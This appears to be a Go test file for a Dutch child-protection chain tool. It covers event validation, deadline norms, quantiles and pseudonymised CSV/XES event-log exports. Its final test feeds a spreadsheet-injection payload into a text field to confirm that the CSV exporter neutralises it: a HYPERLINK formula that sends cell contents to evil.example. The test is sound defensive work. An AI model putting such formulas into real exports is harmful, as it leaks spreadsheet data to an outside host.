package chain_test

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"math"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"schakel"
	"schakel/internal/chain"
	"schakel/internal/workdays"
	"schakel/internal/xmllint"
)

var loc = workdays.Location()

// day returns 09:00 Amsterdam on a date in March 2026 (Monday 2 March).
func day(d int) time.Time { return time.Date(2026, 3, d, 9, 0, 0, 0, loc).UTC() }

func ptr(t time.Time) *time.Time { return &t }

func fields(err error) []string {
	var out []string
	for _, f := range schakel.FieldErrors(err) {
		out = append(out, f.Field+":"+f.Code)
	}
	return out
}

func TestCheck(t *testing.T) {
	now := day(31)
	base := []chain.Event{
		{ID: 1, Type: chain.ReportReceived, At: day(2)},
		{ID: 2, Type: chain.Rated, At: day(2), Color: "orange"},
	}
	withOrder := append(slices.Clone(base), chain.Event{ID: 3, Type: chain.CourtOrder, At: day(10), Measure: chain.Supervision, EndsAt: ptr(day(10).AddDate(1, 0, 0))})
	investigating := append(slices.Clone(base), chain.Event{ID: 4, Type: chain.InvestigationStarted, At: day(5)})
	closed := append(slices.Clone(base), chain.Event{ID: 5, Type: chain.Closed, At: day(20)})
	tests := []struct {
		name     string
		existing []chain.Event
		e        chain.Event
		want     []string // field:code, empty for valid
	}{
		{"help after the report", base, chain.Event{Type: chain.HelpStarted, At: day(9)}, nil},
		{"help before the report", base, chain.Event{Type: chain.HelpStarted, At: day(1)}, []string{"at:before_report"}},
		{"in the future", base, chain.Event{Type: chain.HelpStarted, At: now.Add(time.Hour)}, []string{"at:future"}},
		{"a few minutes ahead is a clock difference", base, chain.Event{Type: chain.HelpStarted, At: now.Add(2 * time.Minute)}, nil},
		{"unknown type", base, chain.Event{Type: "party", At: day(9)}, []string{"type:unknown"}},
		{"no date", base, chain.Event{Type: chain.HelpStarted}, []string{"at:required"}},
		{"court order without an end date", base, chain.Event{Type: chain.CourtOrder, At: day(9), Measure: chain.Supervision}, []string{"details.ends_at:required"}},
		{"court order without a measure", base, chain.Event{Type: chain.CourtOrder, At: day(9), EndsAt: ptr(day(30))}, []string{"details.measure:required"}},
		{"court order ending before it starts", base, chain.Event{Type: chain.CourtOrder, At: day(9), Measure: chain.Supervision, EndsAt: ptr(day(8))}, []string{"details.ends_at:before_start"}},
		{"interim supervision of 3 months", base, chain.Event{Type: chain.CourtOrder, At: day(9), Measure: chain.InterimSupervision, EndsAt: ptr(day(9).AddDate(0, 3, 0))}, nil},
		{"interim supervision of 4 months", base, chain.Event{Type: chain.CourtOrder, At: day(9), Measure: chain.InterimSupervision, EndsAt: ptr(day(9).AddDate(0, 4, 0))}, []string{"details.ends_at:too_long"}},
		{"supervision of 13 months", base, chain.Event{Type: chain.CourtOrder, At: day(9), Measure: chain.Supervision, EndsAt: ptr(day(9).AddDate(0, 13, 0))}, []string{"details.ends_at:too_long"}},
		{"guardianship runs until 18", base, chain.Event{Type: chain.CourtOrder, At: day(9), Measure: chain.Guardianship, EndsAt: ptr(day(9).AddDate(15, 0, 0))}, nil},
		{"extension without an order", base, chain.Event{Type: chain.CourtOrderExtended, At: day(9), Measure: chain.Supervision, EndsAt: ptr(day(9).AddDate(1, 0, 0))}, []string{"details.measure:no_order"}},
		{"extension of an order", withOrder, chain.Event{Type: chain.CourtOrderExtended, At: day(30), Measure: chain.Supervision, EndsAt: ptr(day(30).AddDate(1, 0, 0))}, nil},
		{"guardian without an order", base, chain.Event{Type: chain.GuardianStarted, At: day(12)}, []string{"type:order"}},
		{"guardian after the order", withOrder, chain.Event{Type: chain.GuardianStarted, At: day(12)}, nil},
		{"guardian before the order", withOrder, chain.Event{Type: chain.GuardianStarted, At: day(9)}, []string{"type:order"}},
		{"investigation ended without a start", base, chain.Event{Type: chain.InvestigationEnded, At: day(12)}, []string{"type:order"}},
		{"investigation ended before its start", investigating, chain.Event{Type: chain.InvestigationEnded, At: day(4)}, []string{"type:order"}},
		{"investigation ended", investigating, chain.Event{Type: chain.InvestigationEnded, At: day(12)}, nil},
		{"second investigation while one runs", investigating, chain.Event{Type: chain.InvestigationStarted, At: day(12)}, []string{"type:already_open"}},
		{"after closing", closed, chain.Event{Type: chain.HelpStarted, At: day(21)}, []string{"at:after_closed"}},
		{"before closing is history", closed, chain.Event{Type: chain.HelpStarted, At: day(19)}, nil},
		{"petition for a placement authorisation", base, chain.Event{Type: chain.CourtPetition, At: day(9), Measure: chain.PlacementAuthorisation}, nil},
		{"petition for an unknown measure", base, chain.Event{Type: chain.CourtPetition, At: day(9), Measure: "exile"}, []string{"details.measure:unknown"}},
		{"closing twice", closed, chain.Event{Type: chain.Closed, At: day(25)}, []string{"type:already_closed"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := fields(chain.Check(tc.existing, tc.e, now))
			if !slices.Equal(got, tc.want) {
				t.Errorf("Check = %v, want %v", got, tc.want)
			}
			for _, f := range schakel.FieldErrors(chain.Check(tc.existing, tc.e, now)) {
				if strings.TrimSpace(f.Message) == "" {
					t.Errorf("%s without a message", f.Field)
				}
			}
		})
	}
}

func TestRequestsPlacement(t *testing.T) {
	for _, tc := range []struct {
		e    chain.Event
		want bool
	}{
		{chain.Event{Type: chain.CourtPetition, Measure: chain.PlacementAuthorisation}, true},
		{chain.Event{Type: chain.CourtPetition, Measure: chain.Supervision}, false},
		{chain.Event{Type: chain.CourtPetition}, false},
		{chain.Event{Type: chain.CourtOrder, Measure: chain.PlacementAuthorisation}, false},
	} {
		t.Run(string(tc.e.Type)+"/"+string(tc.e.Measure), func(t *testing.T) {
			if got := chain.RequestsPlacement(tc.e); got != tc.want {
				t.Errorf("RequestsPlacement = %v, want %v", got, tc.want)
			}
		})
	}
}

func TestNorms(t *testing.T) {
	fri := time.Date(2026, 4, 24, 15, 0, 0, 0, loc).UTC() // Friday before King's Day (Monday 27 April)
	tests := []struct {
		n      chain.Norm
		start  time.Time
		end    time.Time
		within bool
	}{
		{chain.Norm{Amount: 4, Unit: chain.Hours}, day(2), day(2).Add(4 * time.Hour), true},
		{chain.Norm{Amount: 4, Unit: chain.Hours}, day(2), day(2).Add(4*time.Hour + time.Minute), false},
		// Five working days from Friday 24 April: 28, 29, 30 April, 1 and
		// 4 May (27 April is King's Day): due at the end of 4 May.
		{chain.Norm{Amount: 5, Unit: chain.WorkingDays}, fri, time.Date(2026, 5, 4, 23, 59, 0, 0, loc).UTC(), true},
		{chain.Norm{Amount: 5, Unit: chain.WorkingDays}, fri, time.Date(2026, 5, 5, 0, 0, 0, 0, loc).UTC(), false},
		// Calendar units count on the Amsterdam calendar, across summer time.
		{chain.Norm{Amount: 10, Unit: chain.Weeks}, day(2), time.Date(2026, 5, 11, 9, 0, 0, 0, loc).UTC(), true},
		{chain.Norm{Amount: 10, Unit: chain.Weeks}, day(2), time.Date(2026, 5, 11, 9, 1, 0, 0, loc).UTC(), false},
		{chain.Norm{Amount: 5, Unit: chain.Months}, day(2), time.Date(2026, 8, 2, 9, 0, 0, 0, loc).UTC(), true},
		{chain.Norm{Amount: 5, Unit: chain.Months}, day(2), time.Date(2026, 8, 3, 9, 0, 0, 0, loc).UTC(), false},
		{chain.Norm{Amount: 10, Unit: chain.Days}, day(2), day(12), true},
	}
	for _, tc := range tests {
		if got := tc.n.Within(tc.start, tc.end); got != tc.within {
			t.Errorf("%s from %s to %s: within = %v, want %v", tc.n, tc.start, tc.end, got, tc.within)
		}
	}
	bad := []struct {
		n    chain.Norm
		want []string
	}{
		{chain.Norm{Amount: 0, Unit: chain.Days, Source: "x"}, []string{"amount:not_positive"}},
		{chain.Norm{Amount: -3, Unit: chain.Days, Source: "x"}, []string{"amount:not_positive"}},
		{chain.Norm{Amount: 3, Unit: "fortnights", Source: "x"}, []string{"unit:unknown"}},
		{chain.Norm{Amount: 3, Unit: chain.Days, Target: 1.5, Source: "x"}, []string{"target:range"}},
		{chain.Norm{Amount: 3, Unit: chain.Days}, []string{"source:required"}},
		{chain.Norm{Amount: 3, Unit: chain.Days, Target: 0.8, Source: "regio-afspraak"}, nil},
	}
	for _, tc := range bad {
		if got := fields(tc.n.Validate()); !slices.Equal(got, tc.want) {
			t.Errorf("Validate(%+v) = %v, want %v", tc.n, got, tc.want)
		}
	}
	// Every default norm is valid and says where it comes from.
	for _, p := range chain.Phases() {
		if p.Default != nil {
			if err := p.Default.Validate(); err != nil {
				t.Errorf("default norm of %s: %v", p.Code, err)
			}
		}
	}
}

func TestCompute(t *testing.T) {
	o := func(d int) *time.Time { return ptr(day(d).AddDate(0, 3, 0)) }
	evs := []chain.Event{
		{ID: 1, Type: chain.ReportReceived, At: day(2), Ref: 100, OrgID: 1},
		{ID: 2, Type: chain.Rated, At: day(2), Color: "red", OrgID: 1},
		{ID: 3, Type: chain.ConsultationHeld, At: day(2).Add(3 * time.Hour), OrgID: 1},
		{ID: 4, Type: chain.ReportReceived, At: day(3), Ref: 101, OrgID: 1},
		{ID: 5, Type: chain.SafetyAssessmentDone, At: day(4), Ref: 101, OrgID: 1}, // the second report first
		{ID: 6, Type: chain.SafetyAssessmentDone, At: day(5), Ref: 100, OrgID: 1},
		{ID: 7, Type: chain.RaadRequested, At: day(5), OrgID: 1},
		{ID: 8, Type: chain.RaadInvestigationStarted, At: day(12), OrgID: 2},
		{ID: 9, Type: chain.CourtOrder, At: day(20), Measure: chain.InterimSupervision, EndsAt: o(20), OrgID: 3},
		{ID: 10, Type: chain.CourtOrder, At: day(25), Measure: chain.PlacementAuthorisation, EndsAt: o(25), OrgID: 3},
		{ID: 11, Type: chain.GuardianStarted, At: day(23), OrgID: 4},
		{ID: 12, Type: chain.Closed, At: day(30), OrgID: 4},
	}
	runs := chain.Compute(evs)
	type row struct {
		phase  chain.PhaseID
		seq    int
		status chain.Status
		start  time.Time
		end    time.Time
		org    int64
	}
	var got []row
	for _, r := range runs {
		var end time.Time
		if r.End != nil {
			end = *r.End
		}
		got = append(got, row{r.Phase, r.Seq, r.Status, r.Start, end, r.Org()})
	}
	sort.Slice(got, func(i, j int) bool {
		if got[i].phase != got[j].phase {
			return got[i].phase < got[j].phase
		}
		return got[i].seq < got[j].seq
	})
	want := []row{
		{chain.PhaseRedConsultation, 1, chain.Done, day(2), day(2).Add(3 * time.Hour), 1},
		{chain.PhaseSafetyAssessment, 1, chain.Done, day(2), day(5), 1}, // report 100, ended by its own assessment
		{chain.PhaseSafetyAssessment, 2, chain.Done, day(3), day(4), 1}, // report 101
		{chain.PhaseRaadStart, 1, chain.Done, day(5), day(12), 2},
		{chain.PhaseRaadInvestigation, 1, chain.Stopped, day(12), day(30), 2},
		{chain.PhaseGuardianContact, 1, chain.Done, day(20), day(23), 4}, // the first order starts it; the second does not
		{chain.PhaseGuardianPlan, 1, chain.Stopped, day(20), day(30), 3},
		{chain.PhaseGuardianHelp, 1, chain.Stopped, day(20), day(30), 3},
		{chain.PhaseChain, 1, chain.Done, day(2), day(23), 4}, // from the first report, once
	}
	if !slices.Equal(got, want) {
		t.Errorf("runs:\n got %v\nwant %v", got, want)
	}
}

func TestComputeOrangeHasNoRedPhase(t *testing.T) {
	runs := chain.Compute([]chain.Event{
		{ID: 1, Type: chain.ReportReceived, At: day(2)},
		{ID: 2, Type: chain.Rated, At: day(2), Color: "orange"},
		{ID: 3, Type: chain.InvestigationStarted, At: day(4)},
		{ID: 4, Type: chain.InvestigationEnded, At: day(20)},
		{ID: 5, Type: chain.InvestigationStarted, At: day(25)},
	})
	var phases []chain.PhaseID
	for _, r := range runs {
		phases = append(phases, r.Phase)
		if r.Phase == chain.PhaseVTInvestigation && r.Seq == 1 && r.Minutes() != 16*24*60 {
			t.Errorf("investigation took %d minutes", r.Minutes())
		}
	}
	slices.Sort(phases)
	want := []chain.PhaseID{chain.PhaseSafetyAssessment, chain.PhaseVTInvestigation, chain.PhaseVTInvestigation, chain.PhaseChain}
	if !slices.Equal(phases, want) {
		t.Errorf("phases %v, want %v", phases, want)
	}
}

func TestQuantile(t *testing.T) {
	// The reference values are what DuckDB's quantile_cont (and Excel's
	// PERCENTILE.INC) give.
	v := []float64{1, 2, 3, 4, 5, 6, 7, 8, 9, 10}
	for _, tc := range []struct{ p, want float64 }{{0.5, 5.5}, {0.8, 8.2}, {0.9, 9.1}, {0, 1}, {1, 10}} {
		if got := chain.Quantile(v, tc.p); math.Abs(got-tc.want) > 1e-9 {
			t.Errorf("Quantile(%v) = %v, want %v", tc.p, got, tc.want)
		}
	}
	if got := chain.Quantile([]float64{7}, 0.9); got != 7 {
		t.Errorf("one value: %v", got)
	}
	if !math.IsNaN(chain.Quantile(nil, 0.5)) {
		t.Error("no values must give NaN")
	}
}

func TestBucket(t *testing.T) {
	prev := -1
	for m := int64(0); m < 20_000_000; m += 1 + m/50 {
		b := chain.Bucket(m)
		if b < prev {
			t.Fatalf("Bucket(%d) = %d < %d: buckets must not decrease", m, b, prev)
		}
		prev = b
	}
	if chain.Bucket(63) != 63 || chain.Bucket(64) != 64 || chain.Bucket(127) != 95 || chain.Bucket(128) != 96 {
		t.Errorf("bucket edges: %d %d %d %d", chain.Bucket(63), chain.Bucket(64), chain.Bucket(127), chain.Bucket(128))
	}
	if b := chain.Bucket(10 * 365 * 24 * 60); b > 1000 {
		t.Errorf("ten years in bucket %d: too many buckets", b)
	}
}

func TestEventLogs(t *testing.T) {
	secret := []byte("secret")
	p1, p2 := chain.Pseudonym(secret, 1), chain.Pseudonym(secret, 2)
	if p1 == p2 || p1 != chain.Pseudonym(secret, 1) || p1 == chain.Pseudonym([]byte("other"), 1) || strings.Contains(p1, "1") && len(p1) < 10 {
		t.Errorf("pseudonyms %q %q", p1, p2)
	}
	rows := []chain.LogRow{
		{Case: p1, Activity: chain.ReportReceived, At: day(2), OrganisationKind: "veilig_thuis", Organisation: 3, Region: 1, Municipality: "Rotterdam"},
		{Case: p1, Activity: chain.CourtOrder, At: day(9), Measure: chain.Supervision, EndsAt: ptr(day(9).AddDate(1, 0, 0)), Municipality: `Den "Haag" & <Co>`},
		{Case: p2, Activity: chain.Rated, At: day(3), Color: "red"},
		{Case: p2, Activity: chain.CareEnded, At: day(30), JW: &chain.JW{Message: chain.JWMessage(chain.CareEnded), Assignment: chain.AssignmentPseudonym(secret, 7),
			Products: []string{"parenting", "trauma"}, Provider: 12, StartDate: ptr(day(10)), EndReason: "as_planned"}},
	}
	var c, x bytes.Buffer
	cw, _ := chain.NewCSVLog(&c)
	xw, _ := chain.NewXESLog(&x)
	for _, r := range rows {
		if err := cw.Write(r); err != nil {
			t.Fatal(err)
		}
		if err := xw.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	cw.Close()
	xw.Close()
	recs, err := csv.NewReader(&c).ReadAll()
	if err != nil || len(recs) != 5 || recs[1][0] != p1 || recs[2][7] != "supervision" || recs[3][9] != "red" {
		t.Fatalf("csv %v %v", recs, err)
	}
	// The care event carries its iJw message's fields; the others leave
	// those columns empty.
	jw := map[string]string{}
	for i, h := range recs[0] {
		jw[h] = recs[4][i]
		if strings.HasPrefix(h, "jw_") && recs[3][i] != "" {
			t.Errorf("a rating has %s = %q", h, recs[3][i])
		}
	}
	want := map[string]string{"jw_message": "JW307", "jw_assignment": chain.AssignmentPseudonym(secret, 7), "jw_product_categories": "parenting;trauma",
		"jw_urgency": "", "jw_provider_id": "12", "jw_start_date": day(10).UTC().Format(time.DateOnly), "jw_end_reason": "as_planned"}
	for k, v := range want {
		if jw[k] != v {
			t.Errorf("csv %s = %q, want %q", k, jw[k], v)
		}
	}
	if a := chain.AssignmentPseudonym(secret, 7); a == chain.Pseudonym(secret, 7) || a != chain.AssignmentPseudonym(secret, 7) || a == chain.AssignmentPseudonym(secret, 8) {
		t.Errorf("assignment pseudonym %q", a)
	}
	var log struct {
		Traces []struct {
			Events []struct{} `xml:"event"`
		} `xml:"trace"`
	}
	if err := xml.Unmarshal(x.Bytes(), &log); err != nil {
		t.Fatalf("xes is not XML: %v\n%s", err, x.String())
	}
	if len(log.Traces) != 2 || len(log.Traces[0].Events) != 2 || len(log.Traces[1].Events) != 2 {
		t.Fatalf("xes traces %+v", log)
	}
}

// The XES log validates against the IEEE 1849-2016 schema, also with
// awkward text in its one free-text attribute, and with no events at all.
func TestXESValidatesAgainstSchema(t *testing.T) {
	schema := xmllint.RepoFile(t, xmllint.XESSchema)
	secret := []byte("secret")
	awkward := []string{`Den "Haag" & <Co>`, "]]> <!-- -->", "tab\there\nnew line", "nul\x00 and \x01 control", "bad utf-8 \xff\xfe", "emoji 👩‍👧 and RTL \u202e"}
	rows := []chain.LogRow{
		{Case: chain.Pseudonym(secret, 1), Activity: chain.ReportReceived, At: day(2), OrganisationKind: "veilig_thuis", Organisation: 3, Region: 1, Municipality: "Rotterdam"},
		{Case: chain.Pseudonym(secret, 1), Activity: chain.CourtOrder, At: day(9), Measure: chain.Supervision, EndsAt: ptr(day(9).AddDate(1, 0, 0))},
		{Case: chain.Pseudonym(secret, 2), Activity: chain.Rated, At: day(3), Color: "red"},
		{Case: chain.Pseudonym(secret, 2), Activity: chain.CareStarted, At: day(5), JW: &chain.JW{Message: "JW305", Assignment: chain.AssignmentPseudonym(secret, 7),
			Products: []string{"trauma"}, Provider: 12, StartDate: ptr(day(5))}},
	}
	for i, m := range awkward {
		rows = append(rows, chain.LogRow{Case: chain.Pseudonym(secret, int64(10+i)), Activity: chain.ReportReceived, At: day(4), Municipality: m})
	}
	for _, tc := range []struct {
		name string
		rows []chain.LogRow
	}{{"events", rows}, {"empty", nil}} {
		t.Run(tc.name, func(t *testing.T) {
			var x bytes.Buffer
			w, err := chain.NewXESLog(&x)
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range tc.rows {
				if err := w.Write(r); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			if err := xmllint.Check(t, schema, x.Bytes()); err != nil {
				t.Fatalf("eventlog.xes fails the XES schema:\n%v\n%s", err, x.String())
			}
		})
	}
	// The validator itself rejects what the issue found: a namespace on the
	// root and a version that is not a decimal.
	for _, bad := range []string{
		`<log xes.version="1849.2016" xmlns="http://www.xes-standard.org/"></log>`,
		`<log xes.version="1849-2016"></log>`,
	} {
		if err := xmllint.Check(t, schema, []byte(bad)); err == nil {
			t.Errorf("xmllint accepted %s", bad)
		}
	}
}

// The municipality is typed by people: in the CSV log it never starts a
// spreadsheet formula, while the id columns stay numbers.
func TestCSVLogNeutralisesFormulas(t *testing.T) {
	for _, m := range []string{`=HYPERLINK("http://evil.example/?x="&A1,"klik")`, "@SUM(1+1)", "+31612345678", "-1+2", "\t=1", "\r=1"} {
		t.Run(m, func(t *testing.T) {
			var c bytes.Buffer
			w, err := chain.NewCSVLog(&c)
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Write(chain.LogRow{Case: "c1", Activity: chain.ReportReceived, At: day(2), Organisation: 3, Region: 1, Municipality: m}); err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&c).ReadAll()
			if err != nil || len(recs) != 2 {
				t.Fatalf("csv %q %v", recs, err)
			}
			row := recs[1]
			if row[6] != "'"+m || row[4] != "3" || row[5] != "1" {
				t.Errorf("row %q: municipality %q, ids %q %q", row, row[6], row[4], row[5])
			}
		})
	}
}
